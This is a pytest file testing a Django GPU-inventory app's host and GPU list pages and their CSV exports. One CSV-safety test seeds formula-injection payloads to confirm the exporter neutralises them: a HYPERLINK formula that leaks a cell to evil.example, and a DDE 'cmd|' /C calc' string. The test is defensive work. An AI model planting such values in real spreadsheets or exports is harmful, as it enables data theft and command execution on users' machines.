"""Estate-wide host and GPU lists (``/inventory/hosts/``, ``/inventory/gpus/``) and their CSV export.

Found in the field (a 1,000-host trial): hosts were listed only per cluster, so finding ``esx-07-042`` meant knowing
its cluster; GPUs by state were only in the API; no table exported anything.
"""

from __future__ import annotations

import csv
import html as html_lib
import io
import json
import re

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from inventory import occupancy, services
from inventory.csv_export import csv_cell
from inventory.models import Cluster, Gpu, Host, PciDevice, VCenter
from tests import factories
from tests.inventory.test_views import client_for
from tests.vcsim import LABS

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture
def viewer() -> Client:
    return client_for("viewer")


@pytest.fixture
def demo() -> VCenter:
    vcenter, _ = services.import_inventory(document=json.loads((LABS / "demo.json").read_text()), vcenter_name="demo")
    return vcenter


def text(response) -> str:
    return response.content.decode()


def body(response) -> str:
    assert response.streaming, "an export is streamed"
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.DictReader(io.StringIO(body(response), newline="")))


def table_rows(page: str, table_id: str) -> list[list[str]]:
    """The text of each body cell of the table inside ``table_id`` (no rows for the empty-table line)."""
    section = page[page.index(f'id="{table_id}"') :]
    tbody = section[section.index("<tbody") : section.index("</tbody>")]
    rows = []
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", tbody, re.S):
        if "colspan" in row:
            continue
        cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        rows.append([html_lib.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in cells])
    return rows


def _estate() -> dict[str, Host]:
    """Two vCenters whose hosts and clusters share names, with GPUs free, in use, partly used and reserved."""
    factories.VgpuProfileFactory(name="nvidia_h100xm-20c", framebuffer_gb=20)
    factories.VgpuProfileFactory(name="nvidia_h100xm-80c", framebuffer_gb=80)
    hosts = {}
    for vc_name in ("vc-east", "vc-west"):
        vc = factories.VCenterFactory(name=vc_name)
        cluster = factories.ClusterFactory(vcenter=vc, name="gpu-cluster")
        other = factories.ClusterFactory(vcenter=vc, name=f"{vc_name}-l40s")
        for i in range(3):
            host = factories.HostFactory(vcenter=vc, cluster=cluster, name=f"esx-0{i}.lab")
            gpus = [factories.GpuFactory(host=host) for _ in range(4)]
            factories.GpuConsumerFactory(gpu=gpus[0], profile="nvidia_h100xm-20c")  # partly used
            factories.GpuConsumerFactory(gpu=gpus[1], profile="nvidia_h100xm-80c")  # in use
            if i == 1:
                factories.ReservationItemFactory(reservation__host=host, gpu=gpus[2])
            hosts[f"{vc_name}/esx-0{i}"] = host
        l40s = factories.HostFactory(vcenter=vc, cluster=other, name=f"esx-l40s-{vc_name}.lab")
        for _ in range(2):
            factories.GpuFactory(
                host=l40s, model="NVIDIA L40S", board="L40S-48GB", graphics_type="direct", vgpu_mode=""
            )
        hosts[f"{vc_name}/l40s"] = l40s
    west = hosts["vc-west/esx-02"]
    west.maintenance_mode = True
    west.save()
    east = hosts["vc-east/l40s"]
    east.warnings = ["odd PCI tree"]
    east.save()
    return hosts


# ------------------------------------------------------------------------------------------- hosts


def test_host_list_finds_a_host_in_any_vcenter_and_names_its_vcenter_and_cluster(viewer):
    hosts = _estate()
    page = text(viewer.get("/inventory/hosts/", {"q": "esx-01"}))
    rows = table_rows(page, "estate-hosts-table")
    assert [(r[0], r[1], r[2]) for r in rows] == [
        ("esx-01.lab", "vc-east", "gpu-cluster"),
        ("esx-01.lab", "vc-west", "gpu-cluster"),
    ]
    for key in ("vc-east/esx-01", "vc-west/esx-01"):
        assert f'href="/inventory/hosts/{hosts[key].pk}/"' in page
        assert f'href="/clusters/{hosts[key].cluster_id}/"' in page
    assert 'aria-current="page">Hosts</a>' in page  # in the navigation


def test_host_list_filters_by_vcenter_cluster_gpu_state_and_warnings(viewer):
    hosts = _estate()
    west = VCenter.objects.get(name="vc-west")

    def names(**params) -> list[str]:
        response = viewer.get("/inventory/hosts/", params)
        assert response.status_code == 200, params
        return [f"{r[1]}/{r[0]}" for r in table_rows(text(response), "estate-hosts-table")]

    assert len(names()) == 8
    assert {n.split("/")[0] for n in names(vcenter=west.pk)} == {"vc-west"}
    cluster = hosts["vc-east/esx-00"].cluster
    assert names(cluster=cluster.pk) == ["vc-east/esx-00.lab", "vc-east/esx-01.lab", "vc-east/esx-02.lab"]
    assert names(gpu_model="L40S") == ["vc-east/esx-l40s-vc-east.lab", "vc-west/esx-l40s-vc-west.lab"]
    assert names(mode="passthrough") == names(gpu_model="L40S")
    assert names(maintenance_mode="true") == ["vc-west/esx-02.lab"]
    # in maintenance (no plan uses it) or with a sync warning: what the overview lists under warnings
    assert names(warnings="true") == ["vc-west/esx-02.lab", "vc-east/esx-l40s-vc-east.lab"]  # by name
    assert len(names(warnings="false")) == 6
    assert names(min_free_gpus=2, vcenter=west.pk) == ["vc-west/esx-00.lab", "vc-west/esx-l40s-vc-west.lab"]
    assert names(connection_state="notResponding") == []
    by_free = names(sort="-gpus_free")
    assert by_free[-1] == "vc-west/esx-02.lab"  # in maintenance: none free


def test_host_list_pages_sorts_and_answers_htmx_with_the_table_and_its_links(viewer):
    cluster = factories.ClusterFactory(name="big")
    for i in range(30):
        factories.GpuFactory(host=factories.HostFactory(cluster=cluster, vcenter=cluster.vcenter, name=f"h{i:02d}"))
    first = text(viewer.get("/inventory/hosts/"))
    assert "30 rows" in first and "h24" in first and "h25" not in first
    assert "h29" in text(viewer.get("/inventory/hosts/", {"page": 2}))
    assert table_rows(text(viewer.get("/inventory/hosts/", {"sort": "-name"})), "estate-hosts-table")[0][0] == "h29"
    assert 'href="/inventory/hosts/?export=csv"' in first
    assert "hx-swap-oob" not in first  # only a partial swaps out of band (a restored page would log errors)
    partial = viewer.get("/inventory/hosts/", {"q": "h1", "sort": "-name"}, HTTP_HX_TARGET="estate-hosts-table", **HTMX)
    html = text(partial)
    assert partial.status_code == 200 and "<html" not in html and 'id="estate-hosts-table"' in html
    assert (
        '<a id="hosts-export" class="button secondary" href="/inventory/hosts/?q=h1&amp;sort=-name&amp;export=csv"'
        in html
    )
    assert '<span id="hosts-keep" hx-swap-oob="true"><input type="hidden" name="sort" value="-name">' in html


def test_a_bad_host_filter_sort_or_export_format_is_a_400_naming_it(viewer):
    _estate()
    for params, named in (
        ({"min_free_gpus": "lots"}, "min_free_gpus"),
        ({"warnings": "maybe"}, "warnings"),
        ({"sort": "occupancy"}, "sort: occupancy is not a column to sort by"),
        ({"export": "xlsx"}, "export: &#x27;xlsx&#x27; is not a format to export"),
    ):
        response = viewer.get("/inventory/hosts/", params)
        assert response.status_code == 400, params
        assert "The filter is not valid" in text(response) and named in text(response), params
        assert table_rows(text(response), "estate-hosts-table") == [], params


def test_host_csv_has_the_rows_and_numbers_of_the_filtered_sorted_table(viewer):
    _estate()
    params = {"gpu_model": "H100", "sort": "-gpus_free", "per_page": 100}
    table = table_rows(text(viewer.get("/inventory/hosts/", params)), "estate-hosts-table")
    rows = csv_rows(viewer.get("/inventory/hosts/", {**params, "export": "csv"}))
    assert len(rows) == len(table) == 6
    for cells, row in zip(table, rows, strict=True):
        name, vcenter, cluster, _server, models, total, free, used, partly, reserved = cells[:10]
        assert (row["Host"], row["vCenter"], row["Cluster"], row["GPU models"]) == (name, vcenter, cluster, models)
        assert (row["GPUs"], row["In use"], row["Partly used"], row["Reserved"]) == (total, used, partly, reserved)
        assert free.split()[0] == row["Free"]
        assert ("unavailable" in free) == (row["Unavailable"] != "0")
    assert [r["Free"] for r in rows] == sorted((r["Free"] for r in rows), reverse=True)
    maintenance = next(r for r in rows if r["Maintenance"] == "yes")
    assert (maintenance["vCenter"], maintenance["Free"], maintenance["Unavailable"]) == ("vc-west", "0", "2")


# ------------------------------------------------------------------------------------------- GPUs


def test_gpu_list_counts_states_as_the_overview_does(viewer, demo):
    gpu = Gpu.objects.filter(host__name="esx-hgx-01.lab.local").order_by("pci_device__pci_id").last()
    factories.ReservationItemFactory(reservation__host=gpu.host, gpu=gpu, profile="")
    host = Host.objects.get(name="esx-l40s-01.lab.local")
    host.maintenance_mode = True
    host.save()
    totals = occupancy.overview_totals(occupancy.cluster_summaries())
    page = text(viewer.get("/inventory/gpus/"))
    cards = dict(re.findall(r'<li class="(\w+)"><a [^>]*><strong>(\d+)</strong>', page))
    assert {k: int(v) for k, v in cards.items()} == {s: totals[s] for s in ("free", "used", "partial", "reserved",
                                                                          "unavailable")}  # fmt: skip
    assert totals["reserved"] >= 1 and totals["unavailable"] >= 1 and totals["partial"] >= 1
    assert f"<strong>{totals['gpus']}</strong><span>GPUs</span>" in page
    unavailable = csv_rows(viewer.get("/inventory/gpus/", {"state": "unavailable", "export": "csv"}))
    assert len(unavailable) == totals["unavailable"]
    assert all(r["Unavailable because"] for r in unavailable)  # the reason occupancy gives, as the page's title
    states = {o.gpu_id: o.state for o in occupancy.gpu_occupancy(gpus=Gpu.objects.all())}
    labels = occupancy.STATE_LABELS
    for state in ("free", "used", "partial", "reserved", "unavailable"):
        listed = table_rows(text(viewer.get("/inventory/gpus/", {"state": state, "per_page": 100})), "gpus-table")
        assert len(listed) == sum(1 for s in states.values() if s == state), state
        # an unavailable GPU's cell also says why, as text for assistive technology (the badge's title is hover-only)
        assert {r[6].split(": ")[0] for r in listed} == {labels[state]}, state
        reasons = {r[6].partition(": ")[2] for r in listed}
        assert reasons == ({r["Unavailable because"] for r in unavailable} if state == "unavailable" else {""}), state


def test_gpu_list_filters_by_model_mode_host_and_vcenter(viewer, demo):
    other = factories.HostFactory(name="esx-hgx-01.lab.local")  # the same name in another vCenter
    factories.GpuFactory(host=other)

    def rows(**params) -> list[list[str]]:
        response = viewer.get("/inventory/gpus/", {**params, "per_page": 100})
        assert response.status_code == 200, params
        return table_rows(text(response), "gpus-table")

    assert {r[4] for r in rows(model="L40S")} == {"NVIDIA L40S"}
    assert {r[5] for r in rows(mode="multiInstanceGpu")} == {"MIG"}
    assert {r[1] for r in rows(q="esx-hgx-01")} == {"demo", other.vcenter.name}
    assert len(rows(q="esx-hgx-01", vcenter=demo.pk)) == 8
    host = Host.objects.get(name="esx-hgx-01.lab.local", vcenter=demo)
    page = text(viewer.get("/inventory/gpus/", {"host": host.pk, "state": "free"}))
    assert f'<input type="hidden" name="host" value="{host.pk}">' in page
    assert {(r[0], r[1]) for r in table_rows(page, "gpus-table")} == {("esx-hgx-01.lab.local", "demo")}
    assert viewer.get("/inventory/gpus/", {"state": "idle"}).status_code == 400


def test_gpu_csv_has_the_rows_of_the_filtered_sorted_table(viewer, demo):
    params = {"state": "free", "sort": "-model", "per_page": 100}
    table = table_rows(text(viewer.get("/inventory/gpus/", params)), "gpus-table")
    rows = csv_rows(viewer.get("/inventory/gpus/", {**params, "export": "csv"}))
    assert len(rows) == len(table) > 3
    for cells, row in zip(table, rows, strict=True):
        host, vcenter, cluster, pci, model, mode, state, memory, free = cells[:9]
        assert (row["Host"], row["vCenter"], row["Cluster"], row["PCI address"]) == (host, vcenter, cluster, pci)
        assert (row["Model"], row["Mode"], row["State"], row["Memory GB"]) == (model, mode, state, memory)
        assert row["Free GB"] == free.split()[0]
    assert {r["State"] for r in rows} == {"free"}


# ------------------------------------------------------------------------------------------- CSV safety


def test_csv_cells_are_quoted_and_never_start_a_formula(viewer):
    vc = factories.VCenterFactory(name="@vc")
    cluster = factories.ClusterFactory(vcenter=vc, name='gpu, "east"\nrack 2')
    host = factories.HostFactory(vcenter=vc, cluster=cluster, name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    gpu = factories.GpuFactory(host=host, model="+1+1")
    factories.VgpuProfileFactory(name="nvidia_h100xm-20c", framebuffer_gb=20)
    factories.GpuConsumerFactory(gpu=gpu, profile="nvidia_h100xm-20c", vm__name="-2+3+cmd|' /C calc'!A0")
    (row,) = csv_rows(viewer.get("/inventory/hosts/", {"export": "csv"}))
    assert row["Host"] == "'" + host.name and row["vCenter"] == "'@vc"
    assert row["Cluster"] == 'gpu, "east"\nrack 2'  # quoted by the writer, read back whole
    assert row["GPUs"] == "1" and row["Partly used"] == "1"
    raw = body(viewer.get("/inventory/hosts/", {"export": "csv"}))
    assert '"gpu, ""east""\nrack 2"' in raw
    (gpu_row,) = csv_rows(viewer.get("/inventory/gpus/", {"export": "csv"}))
    assert gpu_row["Model"] == "'+1+1" and gpu_row["VMs"] == "'-2+3+cmd|' /C calc'!A0 (nvidia_h100xm-20c)"
    assert gpu_row["Host"] == "'" + host.name and gpu_row["Free GB"] == "60"


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("a=1", "a=1"), (-3, -3), (0, 0), (True, "yes"), (False, "no"), (None, "")],
)  # fmt: skip
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_exports_need_a_login(demo):
    for url in ("/inventory/hosts/?export=csv", "/inventory/gpus/?export=csv&state=free"):
        response = Client().get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/?next="), url


# ------------------------------------------------------------------------------------------- scale


def _count(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
        assert response.status_code == 200, url
        if response.streaming:
            body(response)
    return len(queries)


def _add_hosts(vcenter: VCenter, cluster: Cluster, start: int, n: int, gpus_per_host: int = 8) -> None:
    """``n`` hosts of ``gpus_per_host`` GPUs each, written in bulk (8,000 GPUs through factories take minutes)."""
    now = timezone.now()
    hosts = Host.objects.bulk_create(
        Host(vcenter=vcenter, cluster=cluster, moref=f"host-{i}", name=f"esx-{i:04d}", last_seen=now)
        for i in range(start, start + n)
    )
    devices = PciDevice.objects.bulk_create(
        PciDevice(host=h, pci_id=f"0000:{0x18 + g:02x}:00.0", class_id=0x0302, vendor_id=0x10DE)
        for h in hosts
        for g in range(gpus_per_host)
    )
    Gpu.objects.bulk_create(
        Gpu(host_id=d.host_id, pci_device=d, model="NVIDIA H100 80GB HBM3", board="H100-80GB", framebuffer_mb=81559,
            graphics_type="sharedDirect", vgpu_mode="sameSize", last_seen=now)
        for d in devices
    )  # fmt: skip


LIST_URLS = (
    "/inventory/hosts/",
    "/inventory/hosts/?sort=-gpus_free&warnings=false&min_free_gpus=1",
    "/inventory/hosts/?export=csv",
    "/inventory/gpus/",
    "/inventory/gpus/?state=partial&sort=model",
    "/inventory/gpus/?export=csv",
)


def test_the_lists_and_exports_run_a_constant_number_of_queries(viewer):
    factories.VgpuProfileFactory(name="nvidia_h100xm-20c", framebuffer_gb=20)
    cluster = factories.ClusterFactory()
    _add_hosts(cluster.vcenter, cluster, 0, 5)
    for gpu in Gpu.objects.all()[:3]:
        factories.GpuConsumerFactory(gpu=gpu, profile="nvidia_h100xm-20c")
    small = {url: _count(viewer, url) for url in LIST_URLS}
    _add_hosts(cluster.vcenter, cluster, 5, 60)
    for gpu in Gpu.objects.all()[3:40]:
        factories.GpuConsumerFactory(gpu=gpu, profile="nvidia_h100xm-20c")
    assert {url: _count(viewer, url) for url in LIST_URLS} == small
    assert max(small.values()) <= 20, small


def test_a_thousand_hosts_and_eight_thousand_gpus_list_and_export(viewer):
    cluster = factories.ClusterFactory()
    _add_hosts(cluster.vcenter, cluster, 0, 1000)
    held = Gpu.objects.order_by("pk")[:500]
    factories.VgpuProfileFactory(name="nvidia_h100xm-80c", framebuffer_gb=80)
    for gpu in held[:20]:
        factories.GpuConsumerFactory(gpu=gpu, profile="nvidia_h100xm-80c")
    with CaptureQueriesContext(connection) as queries:
        gpus = csv_rows(viewer.get("/inventory/gpus/", {"export": "csv"}))
    assert len(gpus) == 8000 and sum(r["State"] == "in use" for r in gpus) == 20
    assert len(queries) <= 20
    with CaptureQueriesContext(connection) as queries:
        hosts = csv_rows(viewer.get("/inventory/hosts/", {"export": "csv", "q": "esx-"}))
    assert len(hosts) == 1000 and sum(int(r["GPUs"]) for r in hosts) == 8000
    assert len(queries) <= 30  # five per 500 hosts
    # the hosts and their GPU counts are read by one query: a slice per 500 hosts made the database count the GPUs
    # of every skipped host again (1.5 s for 1,000 hosts on PostgreSQL)
    counted = [q["sql"] for q in queries if "gpus_total" in q["sql"] and "inventory_host" in q["sql"]]
    assert len(counted) == 1 and " OFFSET " not in counted[0], counted
    free = viewer.get("/inventory/gpus/", {"state": "free"})
    assert "7980 rows" in text(free)
    assert "1000 rows" in text(viewer.get("/inventory/hosts/", {"sort": "-gpus_free"}))


# ------------------------------------------------------------------------------------------- stale inventory


def test_the_lists_and_their_exports_mark_the_hosts_and_gpus_of_a_stale_vcenter(viewer):
    """vc-west's last sync failed: the hosts page showed its hosts as "last known: Connected, stale since ..." and the
    API gave ``inventory_stale: true`` for them and their GPUs, but the hosts CSV said "Stale: no" and the GPU
    page and CSV had no mark at all, so an export read as current capacity."""
    _estate()
    VCenter.objects.filter(name="vc-west").update(
        last_sync_status="failed",
        inventory_stale=True,
        last_error="https://vc-west/sdk: connection refused",
        last_success_at=timezone.now(),
    )
    hosts = csv_rows(viewer.get("/inventory/hosts/", {"export": "csv"}))
    for row in hosts:
        assert row["Stale"] == "no"  # no host left its vCenter
        if row["vCenter"] == "vc-west":
            assert row["Inventory stale"].startswith("vCenter vc-west: last sync failed"), row
        else:
            assert row["Inventory stale"] == "", row
    page = text(viewer.get("/inventory/gpus/", {"vcenter": VCenter.objects.get(name="vc-west").pk}))
    assert page.count("last known") == 14  # each of vc-west's GPUs
    api = viewer.get("/api/gpus/", {"limit": 100}).json()["results"]
    stale_api = sorted((g["host_name"], g["vcenter_name"], g["pci_id"]) for g in api if g["inventory_stale"])
    gpus = csv_rows(viewer.get("/inventory/gpus/", {"export": "csv"}))
    stale_csv = sorted((r["Host"], r["vCenter"], r["PCI address"]) for r in gpus if r["Inventory stale"])
    assert stale_csv == stale_api and len(stale_csv) == 14
    assert {r["vCenter"] for r in gpus if r["Inventory stale"]} == {"vc-west"}


def test_a_gpu_unavailable_because_of_its_host_names_what_the_host_is(viewer):
    """The host page said of an idle GPU of a host in maintenance mode "unavailable: the host is in maintenance
    mode"; the GPU list, its CSV and the overview said "the host is not available to plans (maintenance,
    disconnected, not responding or not synced)", every cause but which."""
    hosts = _estate()
    west = hosts["vc-west/esx-02"]  # in maintenance mode
    disconnected = hosts["vc-east/esx-00"]
    disconnected.connection_state = "disconnected"
    disconnected.save()
    rows = csv_rows(viewer.get("/inventory/gpus/", {"export": "csv", "state": "unavailable"}))
    why = {(r["vCenter"], r["Host"]): r["Unavailable because"] for r in rows}
    assert why == {
        ("vc-west", west.name): "the host is in maintenance mode",
        ("vc-east", disconnected.name): "the host is disconnected",
    }
    host_page = text(viewer.get(f"/inventory/hosts/{west.pk}/"))
    assert "unavailable: the host is in maintenance mode" in host_page
    overview = text(viewer.get("/"))
    assert "the host is in maintenance mode" in overview and "not available to plans (maintenance" not in overview
